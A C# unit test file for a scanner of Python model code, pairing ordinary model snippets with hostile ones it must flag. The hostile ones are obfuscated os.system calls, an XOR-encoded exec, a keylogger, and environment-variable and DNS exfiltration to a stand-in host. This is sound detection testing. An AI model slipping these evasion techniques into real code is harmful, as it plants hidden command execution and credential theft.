// Values that carry a harmful callable through code, in as many ways as Python has; and ordinary code that looks like them.
using System.Text;
using Assay.Detection;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats.PythonSources;

public sealed class CarriedValuesTests
{
    private const string Head = "import math\nimport torch\nfrom torch import nn\n";

    [Theory]
    [InlineData("import os\nclass Box:\n    def __init__(self, v): self.v = v\nb = Box(os.system)\nb.v('./x')\n")]
    [InlineData("import os\nclass Cfg:\n    run = staticmethod(os.system)\nCfg.run('./x')\n")]
    [InlineData("import os\ndef pick(name):\n    table = {'a': print, 'b': os.system}\n    return table[name]\npick('b')('./x')\n")]
    [InlineData("import os\nf = lambda g: lambda *a: g(*a)\nf(os.system)('./x')\n")]
    [InlineData("import os\ndef compose(*fs):\n    def run(v):\n        for f in fs:\n            v = f(v)\n        return v\n    return run\ncompose(str.strip, os.system)('./x ')\n")]
    [InlineData("import os\nsteps = []\nsteps.append((os.system, './x'))\nfor f, a in steps: f(a)\n")]
    [InlineData("import os\nq = dict(call=os.system)\nq['call']('./x')\n")]
    [InlineData("import os\n[f(a) for f, a in [(os.system, './x')]]\n")]
    [InlineData("import os\n_ = {k: v('./x') for k, v in {'s': os.system}.items()}\n")]
    [InlineData("import os\nany(f('./x') for f in (os.system,))\n")]
    [InlineData("import os\nwhile True:\n    r = os.system\n    break\nr('./x')\n")]
    [InlineData("import os\ntry:\n    raise ValueError(os.system)\nexcept ValueError as e:\n    e.args[0]('./x')\n")]
    [InlineData("import os\nclass M(type):\n    def __getattr__(cls, n):\n        return getattr(os, n)\nclass P(metaclass=M): pass\nP.system('./x')\n")]
    [InlineData("import os\nclass L:\n    def __getattr__(self, n):\n        return getattr(os, n)\nL().system('./x')\n")]
    [InlineData("import os\nclass D:\n    def __get__(self, o, t):\n        return os.system\nclass H:\n    go = D()\nH().go('./x')\n")]
    [InlineData("import os\nclass C:\n    def __call__(self, *a):\n        return os.system(*a)\nc = C()\nc('./x')\n")]
    [InlineData("import os\nclass I:\n    def __iter__(self):\n        yield os.system\nfor f in I(): f('./x')\n")]
    [InlineData("import os\nclass G:\n    def __getitem__(self, k):\n        return os.system(k)\nG()['./x']\n")]
    [InlineData("import os\nclass W:\n    def __enter__(self): return os.system\n    def __exit__(self, *a): pass\nwith W() as w:\n    w('./x')\n")]
    [InlineData("import os, contextlib\n@contextlib.contextmanager\ndef ctx():\n    yield os.system\nwith ctx() as c:\n    c('./x')\n")]
    [InlineData("import os\nclass S:\n    def __str__(self):\n        return str(os.system('./x'))\nprint(f'{S()}')\n")]
    [InlineData("import os\nclass Base:\n    def __init_subclass__(cls, **k):\n        k['hook']('./x')\nclass Sub(Base, hook=os.system): pass\n")]
    [InlineData("import os\nclass N:\n    def __set_name__(self, o, n):\n        self.f('./x')\n    def __init__(self, f): self.f = f\nclass U:\n    attr = N(os.system)\n")]
    [InlineData("import os\ndef deco(f):\n    return lambda g: f('./x')\n@deco(os.system)\ndef h(): pass\n")]
    [InlineData("import os\nclass Deco:\n    def __init__(self, f): self.f = f\n    def __call__(self, g):\n        self.f('./x')\n        return g\n@Deco(os.system)\ndef h(): pass\n")]
    [InlineData("import os, functools\nrun = functools.partial(os.system)\ndef later(cb): cb('./x')\nlater(run)\n")]
    [InlineData("import os, functools\nfunctools.reduce(lambda a, f: f(a), [os.system], './x')\n")]
    [InlineData("import os, operator\noperator.methodcaller('system', './x')(os)\n")]
    [InlineData("import os, itertools\nlist(itertools.starmap(os.system, [('./x',)]))\n")]
    [InlineData("import os\nlist(map(lambda p: p[0](p[1]), [(os.system, './x')]))\n")]
    [InlineData("import os, collections\ncollections.defaultdict(lambda: os.system('./x'))['a']\n")]
    [InlineData("import os, sched, time\ns = sched.scheduler(time.time, time.sleep)\ns.enter(0, 1, os.system, argument=('./x',))\ns.run()\n")]
    [InlineData("import os, queue\nq = queue.Queue()\nq.put(lambda: os.system('./x'))\nq.get()()\n")]
    [InlineData("import os, contextvars\ncontextvars.copy_context().run(os.system, './x')\n")]
    [InlineData("import os, re\nre.sub('a', lambda m: str(os.system('./x')), 'a')\n")]
    [InlineData("import os, re\nre.sub('.+', lambda m: os.popen(m.group()).read(), './x')\n")]
    [InlineData("import os, codecs\ncodecs.register(lambda n: os.system('./x'))\ntry: 'a'.encode('zzz')\nexcept LookupError: pass\n")]
    [InlineData("import os, json\njson.loads('{\"a\": 1}', object_hook=lambda d: os.system('./x'))\n")]
    [InlineData("import os, json\njson.dumps(object(), default=lambda o: os.system('./x'))\n")]
    [InlineData("import os, tempfile, importlib, sys\nd = tempfile.mkdtemp()\nwith open(d + '/hlp.py', 'w') as f:\n    f.write('import os\\n')\n    f.write('os.system(\"./x\")\\n')\nsys.path.append(d)\nimportlib.import_module('hlp')\n")]
    [InlineData("import runpy, pathlib\np = pathlib.Path('/tmp') / 'r.py'\np.write_text('import os; os.system(\"./x\")')\nrunpy.run_path(str(p))\n")]
    [InlineData("import os\nname = 'metsys'[::-1]\nvars(os)[name]('./x')\n")]
    [InlineData("import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('./x')\n")]
    [InlineData("import os\ngetattr(os, '{}{}'.format('po', 'pen'))('./x')\n")]
    [InlineData("import os\ngetattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())('./x')\n")]
    [InlineData("import os\ns = ''\nfor c in (115, 121, 115, 116, 101, 109):\n    s += chr(c)\ngetattr(os, s)('./x')\n")]
    [InlineData("import os\nt = str.maketrans('abc', 'sye')\ngetattr(os, 'abatcm'.translate(t))('./x')\n")]
    [InlineData("def dec(s, k):\n    return ''.join(chr(ord(c) ^ k) for c in s)\nexec(dec('hlqnsu!nr:nr/rxrudl)&./y&(', 1))\n")]
    [InlineData("import os\nclass R(dict):\n    def __missing__(self, k):\n        return os.system(k)\nR()['./x']\n")]
    [InlineData("import os\ndef outer():\n    f = os.system\n    def inner(c):\n        nonlocal f\n        return f(c)\n    return inner\nouter()('./x')\n")]
    [InlineData("import os\nG = None\ndef setg():\n    global G\n    G = os.system\nsetg()\nG('./x')\n")]
    [InlineData("import os\nglobals()['run'] = os.system\nrun('./x')\n")]
    [InlineData("import os\nmatch 1:\n    case 1:\n        os.system('./x')\n")]
    [InlineData("import os\n(lambda *a: a[0](a[1]))(os.system, './x')\n")]
    [InlineData("import os\nsetattr(math, 'go', os.system)\nmath.go('./x')\n")]
    [InlineData("import os, types\nm = types.SimpleNamespace(go=os.system)\nm.go('./x')\n")]
    [InlineData("import os, typing\nclass NT(typing.NamedTuple):\n    f: object\n    a: str\nn = NT(os.system, './x')\nn.f(n.a)\n")]
    [InlineData("import os, dataclasses\n@dataclasses.dataclass\nclass DC:\n    f: object\n    a: str\n    def __post_init__(self):\n        self.f(self.a)\nDC(os.system, './x')\n")]
    [InlineData("import os, enum\nclass E(enum.Enum):\n    A = './x'\n    def __init__(self, c):\n        os.system(c)\n")]
    [InlineData("import os\nfrom enum import IntEnum\nclass E(IntEnum):\n    A = (1, './x')\n    def __new__(cls, n, c):\n        os.system(c)\n        return int.__new__(cls, n)\n")]
    [InlineData("import os, logging\nclass H(logging.Handler):\n    def emit(self, r):\n        os.system(r.getMessage())\nlogging.getLogger().addHandler(H())\nlogging.warning('./x')\n")]
    [InlineData("import os\nasync def a():\n    os.system('./x')\nc = a()\ntry: c.send(None)\nexcept StopIteration: pass\n")]
    [InlineData("import os\ndef g():\n    c = yield\n    os.system(c)\ni = g(); next(i)\ntry: i.send('./x')\nexcept StopIteration: pass\n")]
    [InlineData("import os, html.parser\nclass P(html.parser.HTMLParser):\n    def handle_data(self, d):\n        os.system(d)\nP().feed('./x')\n")]
    [InlineData("import ast, os\nclass V(ast.NodeVisitor):\n    def visit_Name(self, n):\n        os.system('./x')\nV().visit(ast.parse('a'))\n")]
    [InlineData("import os, cmd\nclass S(cmd.Cmd):\n    def do_go(self, a):\n        os.system(a)\nS().onecmd('go ./x')\n")]
    public void T158_WhatIsCarriedToACallIsFound(string source)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(Head + source), "modeling_x.py");
        Assert.True(report.Findings.Any(f => f.Severity >= Severity.Medium && f.Phase == "import"), report.Describe());
    }

    [Theory]
    [InlineData("import os, functools\n@functools.lru_cache(maxsize=None)\ndef root():\n    return os.path.dirname(os.path.abspath(__file__))\n")]
    [InlineData("from functools import partial\nACT = {'gelu': nn.GELU, 'relu': partial(nn.ReLU, inplace=True)}\ndef act(name): return ACT[name]()\n")]
    [InlineData("import importlib.util\ndef has(n): return importlib.util.find_spec(n) is not None\nHAS_FLASH = has('flash_attn')\n")]
    [InlineData("try:\n    from flash_attn import flash_attn_func\nexcept ImportError:\n    flash_attn_func = None\n")]
    [InlineData("import logging\nclass F(logging.Filter):\n    def filter(self, r): return True\nlogging.getLogger(__name__).addFilter(F())\n")]
    [InlineData("import warnings\nwarnings.filterwarnings('ignore', category=UserWarning)\nwarnings.showwarning = lambda *a, **k: None\n")]
    [InlineData("class Registry(dict):\n    def register(self, n):\n        def wrap(c):\n            self[n] = c\n            return c\n        return wrap\nR = Registry()\n@R.register('a')\nclass A: pass\n")]
    [InlineData("import threading\n_lock = threading.Lock()\nclass Pool:\n    def __enter__(self):\n        _lock.acquire(); return self\n    def __exit__(self, *a): _lock.release()\nwith Pool() as p: pass\n")]
    [InlineData("import atexit, tempfile, shutil\n_tmp = tempfile.mkdtemp()\natexit.register(shutil.rmtree, _tmp, True)\n")]
    [InlineData("import os\nos.environ.setdefault('TOKENIZERS_PARALLELISM', 'false')\nos.environ['OMP_NUM_THREADS'] = '1'\n")]
    [InlineData("import json, os\nwith open(os.path.join(os.path.dirname(__file__), 'config.json')) as f:\n    CFG = json.load(f)\n")]
    [InlineData("from pathlib import Path\nCACHE = Path.home() / '.cache' / 'x'\nCACHE.mkdir(parents=True, exist_ok=True)\n(CACHE / 'version').write_text('1')\n")]
    [InlineData("def build(t):\n    m, c = t.rsplit('.', 1)\n    return getattr(__import__('importlib').import_module(m), c)\ndef make(cfg): return build(cfg['target'])(**cfg.get('params', {}))\n")]
    [InlineData("import torch.nn.functional as F\nFN = {n: getattr(F, n) for n in ('gelu', 'silu', 'relu')}\n")]
    [InlineData("class Config(dict):\n    def __getattr__(self, n):\n        try: return self[n]\n        except KeyError: raise AttributeError(n)\nC = Config(a=1)\nx = C.a\n")]
    [InlineData("import dataclasses, typing\n@dataclasses.dataclass\nclass Args:\n    dim: int = 4\n    fn: typing.Callable = max\nA = Args()\n")]
    [InlineData("import enum\nclass E(enum.Enum):\n    A = 1\n    def __str__(self): return self.value\nprint(str(E.A))\n")]
    [InlineData("import re\nTOK = re.compile(r'\\w+')\ndef clean(s): return re.sub(r'\\s+', lambda m: ' ', s)\nX = clean('a  b')\n")]
    [InlineData("class Lazy:\n    def __init__(self, f): self.f = f\n    def __get__(self, o, t): return self.f(o)\nclass H:\n    @Lazy\n    def dev(self): return 'cpu'\nd = H().dev\n")]
    [InlineData("import subprocess\ndef gpu():\n    return subprocess.check_output(['nvidia-smi']).decode()\n")]
    [InlineData("import subprocess\ntry:\n    V = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode().strip()\nexcept Exception:\n    V = 'unknown'\n")]
    [InlineData("import requests\ndef fetch(u, p):\n    with open(p, 'wb') as f: f.write(requests.get(u).content)\n")]
    [InlineData("from concurrent.futures import ThreadPoolExecutor\ndef load(ps):\n    with ThreadPoolExecutor() as e: return list(e.map(torch.load, ps))\n")]
    [InlineData("import multiprocessing as mp\nmp.set_start_method('spawn', force=True)\n")]
    [InlineData("import signal\ndef stop(s, f): raise KeyboardInterrupt\nsignal.signal(signal.SIGTERM, stop)\n")]
    [InlineData("import sys, os\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\n")]
    [InlineData("import ast\ndef parse(s): return ast.literal_eval(s)\nX = parse('[1, 2]')\n")]
    [InlineData("import pickle\ndef save(o, p):\n    with open(p, 'wb') as f: pickle.dump(o, f)\n")]
    [InlineData("import copy\nclass N:\n    def __deepcopy__(self, m): return self\nb = copy.deepcopy(N())\n")]
    [InlineData("import collections\nC = collections.defaultdict(lambda: collections.Counter())\nC['a']['b'] += 1\n")]
    [InlineData("def gen():\n    for i in range(3):\n        yield i\nX = list(gen())\n")]
    [InlineData("class Meta(type):\n    reg = {}\n    def __new__(m, n, b, d):\n        c = super().__new__(m, n, b, d)\n        m.reg[n] = c\n        return c\nclass A(metaclass=Meta): pass\n")]
    [InlineData("class Base:\n    subs = []\n    def __init_subclass__(cls, **k):\n        super().__init_subclass__(**k)\n        Base.subs.append(cls)\nclass S(Base): pass\n")]
    [InlineData("import contextlib, time\n@contextlib.contextmanager\ndef timer(n):\n    t = time.time()\n    yield\n    print(n, time.time() - t)\nwith timer('a'): pass\n")]
    [InlineData("import asyncio\nasync def main(): await asyncio.sleep(0)\nif __name__ == '__main__': asyncio.run(main())\n")]
    [InlineData("import base64\nLOGO = base64.b64decode('iVBORw0KGgo=')\nclass Img: data = LOGO\n")]
    [InlineData("import zlib, base64\nVOCAB = zlib.decompress(base64.b64decode('eJxLTAQAASYAxA==')).decode().split()\n")]
    [InlineData("import types\nNS = types.SimpleNamespace(act=nn.GELU, norm=nn.LayerNorm)\nm = NS.norm(4)\n")]
    [InlineData("import operator, functools\ndef prod(x): return functools.reduce(operator.mul, x, 1)\nP = prod([1, 2])\n")]
    [InlineData("import itertools\nGRID = list(itertools.product([1, 2], ['a', 'b']))\nfor a, b in GRID: pass\n")]
    [InlineData("import os\ndef tool(name):\n    return {'ls': os.listdir, 'rm': os.remove}[name]\n")]
    [InlineData("import shutil, os\ndef clean(d):\n    shutil.rmtree(d, ignore_errors=True)\nclass Saver:\n    def __init__(self, d): self.d = d\n    def __del__(self): pass\n")]
    [InlineData("import torch.utils.checkpoint\ndef ck(f, *a): return torch.utils.checkpoint.checkpoint(f, *a)\n")]
    [InlineData("import inspect\nSIG = inspect.signature(nn.Linear.__init__).parameters\n")]
    [InlineData("import hashlib, urllib.request\ndef download(u, p, sha):\n    urllib.request.urlretrieve(u, p)\n    assert hashlib.sha256(open(p, 'rb').read()).hexdigest() == sha\n")]
    [InlineData("import platform\nIS_MAC = platform.system() == 'Darwin'\n")]
    [InlineData("import weakref\nclass Cache:\n    def __init__(self): self.m = weakref.WeakValueDictionary()\nC = Cache()\n")]
    [InlineData("import argparse\ndef train(a): pass\np = argparse.ArgumentParser()\np.set_defaults(func=train)\np.add_argument('--n', type=int)\n")]
    [InlineData("class V:\n    def __init__(self, x): self.x = x\n    def __add__(self, o): return V(self.x + o.x)\n    def __len__(self): return 1\n    def __bool__(self): return True\nif V(1) + V(2): pass\n")]
    [InlineData("def trace(f):\n    import functools\n    @functools.wraps(f)\n    def w(*a, **k):\n        return f(*a, **k)\n    return w\n@trace\ndef add(a, b): return a + b\nadd(1, 2)\n")]
    [InlineData("from huggingface_hub import hf_hub_download\ndef weights(r): return hf_hub_download(r, 'model.safetensors')\n")]
    [InlineData("from torch.utils.cpp_extension import load\ndef ext(): return load('e', sources=['e.cpp'])\n")]
    [InlineData("from jinja2 import Template\nT = Template('{{ a }}')\nprint(T.render(a=1))\n")]
    [InlineData("import string\nT = string.Template('$a').substitute(a=1)\n")]
    [InlineData("exec(compile('A = 1', '<x>', 'exec'))\n")]
    [InlineData("for _n in ('a', 'b'):\n    exec(f'def f_{_n}(): return 1')\n")]
    [InlineData("import sys\nclass Tee:\n    def __init__(self, s): self.s = s\n    def write(self, t): self.s.write(t)\n    def flush(self): self.s.flush()\nsys.stdout = Tee(sys.stdout)\n")]
    [InlineData("np = None\ntry:\n    import numpy as np\nexcept ImportError: pass\ndef arr(x): return np.array(x)\n")]
    [InlineData("import gc, torch\ngc.collect()\ntorch.backends.cuda.matmul.allow_tf32 = True\ntorch.nn.Linear.reset_parameters = lambda self: None\n")]
    [InlineData("import uuid, time\nRUN = f'{time.strftime(\"%Y\")}-{uuid.uuid4().hex[:8]}'\n")]
    public void OrdinaryCodeOfModelsPasses(string source)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(Head + source), "modeling_x.py");
        Assert.True(report.Verdict is Verdict.Passed, report.Describe());
    }

    [Theory]
    [InlineData("import os\nclass T(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, t, a=(), k=None):\n        os.system('./x')\n")]
    [InlineData("import os\nclass A:\n    def __array_ufunc__(self, u, m, *i, **k):\n        os.system('./x')\n")]
    [InlineData("import os, enum\nclass E(enum.Enum):\n    A = 'a'\n    @classmethod\n    def _missing_(cls, v):\n        os.system('./x')\nE('b')\n")]
    [InlineData("import typing\ndef f(x: \"__import__('os').system('./x')\"): return x\ntyping.get_type_hints(f)\n")]
    [InlineData("import typing\nclass C:\n    x: \"__import__('os').system('./x')\" = 1\ntyping.get_type_hints(C)\n")]
    [InlineData("import inspect\ndef f() -> \"__import__('os').system('./x')\": pass\ninspect.signature(f, eval_str=True)\n")]
    [InlineData("import string, importlib\nn = string.Template('${a}${b}').substitute(a='subpro', b='cess')\ngetattr(importlib.import_module(n), 'run')(['./x'])\n")]
    [InlineData("import string, os\ngetattr(os, string.Template('$p$q').safe_substitute({'p': 'sys', 'q': 'tem'}))('./x')\n")]
    [InlineData("import re\nre.sub('a(.*)', lambda m: str(eval(m.group(1))), open('t.txt').read())\n")]
    [InlineData("import json\njson.load(open('e.json'), object_hook=lambda d: eval(d['v']) if 'v' in d else d)\n")]
    [InlineData("import logging.config, os\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': os.system, 'command': './x'}}})\n")]
    [InlineData("import logging.config\nlogging.config.dictConfig({'version': 1, 'filters': {'h': {'()': 'os.system', 'command': './x'}}})\n")]
    [InlineData("import multiprocessing.util as u\nu.spawnv_passfds(b'/bin/sh', [b'sh', b'-c', b'./x'], ())\n")]
    [InlineData("import gradio as gr\ndef run(t): return str(eval(t[6:]))\ngr.Interface(run, 'text', 'text').launch()\n")]
    [InlineData("import gradio as gr\ndef run(t): return str(eval(t))\nwith gr.Blocks() as b:\n    gr.Button('a')\nb.load(fn=run)\n")]
    [InlineData("from pynput import keyboard\nimport requests\ndef press(k): requests.post('https://c.example.test', data=str(k))\nkeyboard.Listener(on_press=press).start()\n")]
    [InlineData("import requests\nclass M(nn.Module):\n    def forward(self, x):\n        requests.post('https://c.example.test', json={'x': x.tolist()})\n        return x\n")]
    [InlineData("import threading, urllib.request\nclass M(nn.Module):\n    def forward(self, x):\n        threading.Thread(target=urllib.request.urlopen, args=('https://c.example.test', bytes(x))).start()\n        return x\n")]
    [InlineData("import socket\nclass M(nn.Module):\n    def forward(self, x):\n        socket.gethostbyname(bytes(x).hex() + '.d.example.test')\n        return x\n")]
    [InlineData("import socket\nclass M(nn.Module): pass\ndef f(self, x):\n    socket.getaddrinfo(f'{x}.d.example.test', 80)\nM.generate = f\n")]
    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        eval(compile(bytes.fromhex(config.table), 'r', 'exec'))\n")]
    [InlineData("class M(nn.Module):\n    def __init__(self):\n        with open('/proc/self/mem', 'r+b', 0) as m:\n            m.seek(4096)\n            m.write(b'a')\n")]
    [InlineData("import pathlib\np = pathlib.Path.home() / '.config/pip/pip.conf'\np.write_text('[global]\\nindex-url = http://pypi.example.test/simple\\n')\n")]
    [InlineData("import os, requests\nfrom transformers import TrainerCallback\nclass C(TrainerCallback):\n    def on_save(self, *a, **k):\n        requests.post('https://c.example.test', json=dict(os.environ))\n")]
    public void T158_WhatOthersCallIsFound(string source)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(Head + source), "modeling_x.py");
        Assert.True(report.Findings.Any(f => f.Severity >= Severity.Medium), report.Describe());
    }

    [Theory]
    [InlineData("class T(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, t, a=(), k=None):\n        return super().__torch_function__(f, t, a, k or {})\n")]
    [InlineData("import typing\ndef f(x: 'int') -> 'nn.Module': return x\ntyping.get_type_hints(f)\n")]
    [InlineData("import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'logging.StreamHandler', 'level': 'INFO'}}})\n")]
    [InlineData("import gradio as gr\ndef run(t): return t.upper()\ngr.Interface(run, 'text', 'text').launch()\n")]
    [InlineData("import requests, io\nclass P(nn.Module):\n    def forward(self, url):\n        return io.BytesIO(requests.get(url).content)\n")]
    [InlineData("import socket\nclass M(nn.Module):\n    def __init__(self):\n        self.host = socket.gethostbyname(socket.gethostname())\n")]
    [InlineData("import os\nfrom transformers import TrainerCallback\nclass C(TrainerCallback):\n    def on_save(self, *a, **k):\n        os.system('aws s3 cp ckpt s3://b/')\n")]
    [InlineData("import os\nHAS = os.system('where cl.exe >nul 2>nul') == 0\n")]
    [InlineData("import subprocess\nsubprocess.run('pip install flash-attn --no-build-isolation', shell=True)\n")]
    [InlineData("import sys\nfor a in sys.argv[1:]:\n    if '=' not in a:\n        exec(open(a).read())\n")]
    [InlineData("import ctypes\nlib = ctypes.cdll.LoadLibrary('libx.so')\ndef fill(kind, p): getattr(lib, f'c{kind}_fill')(p)\nfill('uint8', 0)\n")]
    [InlineData("def a(x): return b(x)\ndef b(x): return a(x) if x else 0\nclass C:\n    def m(self): return a(self.n)\n")]
    public void WhatOthersCallIsOrdinary(string source)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(Head + source), "modeling_x.py");
        Assert.True(report.Verdict is Verdict.Passed, report.Describe());
    }

    // What is passed over must not hide what is reached through it: by a function, a class, a table, an import of a function's own.
    [Theory]
    [InlineData("import os\ndef low(c): os.system(c)\ndef mid(c): low(c)\nclass M(nn.Module):\n    def __init__(self): mid('./x')\n")]
    [InlineData("import os\nT = {'a': os.system}\nclass M(nn.Module):\n    def __init__(self): T['a']('./x')\n")]
    [InlineData("class M(nn.Module):\n    def __init__(self):\n        from os import system as s\n        s('./x')\n")]
    [InlineData("import os\nclass H:\n    def go(self): os.system('./x')\nh = H()\nclass M(nn.Module):\n    def __init__(self): h.go()\n")]
    [InlineData("import random\nclass M(nn.Module):\n    def __init__(self): random._os.system('./x')\n")]
    [InlineData("def plain(): pass\nclass M(nn.Module):\n    def __init__(self): plain.__globals__['__builtins__'].exec(self.t)\n")]
    [InlineData("import os\ng = None\ndef put():\n    global g\n    g = os.system\nput()\nclass M(nn.Module):\n    def __init__(self): g('./x')\n")]
    [InlineData("import functools, os\nrun = functools.partial(os.system, './x')\nclass M(nn.Module):\n    def __init__(self): run()\n")]
    public void WhatIsReachedThroughPlainCodeIsFound(string source)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(Head + source), "modeling_x.py");
        Assert.True(report.Findings.Any(f => f.Severity >= Severity.Medium && f.Phase is "load" or "import"), report.Describe());
    }
}
